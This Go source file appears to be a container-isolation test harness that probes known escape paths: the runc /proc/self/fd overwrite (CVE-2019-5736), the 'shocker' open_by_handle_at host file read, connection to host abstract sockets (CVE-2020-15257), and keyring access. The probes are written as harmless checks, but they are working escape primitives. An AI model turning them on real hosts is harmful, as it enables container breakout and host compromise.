package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// overwrite opens what a magic link leads to, lets go of it, and opens that for writing (CVE-2019-5736).
func overwrite(args []string) error {
	f, err := os.Open(args[0])
	if err != nil {
		return err
	}
	defer f.Close()
	target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", f.Fd()))
	if err != nil {
		return err
	}
	w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer w.Close()
	head := make([]byte, 1)
	if _, err := f.ReadAt(head, 0); err != nil {
		return err
	}
	if _, err := w.WriteAt(head, 0); err != nil { // what is there already: a success harms nobody
		return err
	}
	escaped("wrote into %s", target)
	return nil
}

// handle guesses the handle of the root directory of the file system that /etc/hostname is bound from, and looks for
// the canary from there: "shocker", for which CAP_DAC_READ_SEARCH is enough.
func handle(args []string) error {
	mount, err := unix.Open("/etc/hostname", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	root := make([]byte, 8)
	binary.NativeEndian.PutUint32(root, 2) // inode of the root of ext4
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(1, root), unix.O_RDONLY)
	if err != nil {
		return err
	}
	file, err := unix.Openat(fd, strings.TrimPrefix(args[0], "/"), unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	text, err := io.ReadAll(os.NewFile(uintptr(file), args[0]))
	if err != nil {
		return err
	}
	escaped("read %q", text)
	return nil
}

// abstract connects to sockets without a file, which belong to a network namespace (CVE-2020-15257).
func abstract([]string) error {
	table, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(table)) {
		_, name, ok := strings.Cut(strings.TrimSpace(line), " @")
		if !ok {
			continue
		}
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		if err := unix.Connect(fd, &unix.SockaddrUnix{Name: "@" + name}); err == nil {
			escaped("connected to @%s", name)
			return nil
		}
	}
	return errors.New("there are none, or they refuse")
}

// keyring prints the session keyring.
func keyring([]string) error {
	id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	fmt.Println(id)
	return err
}
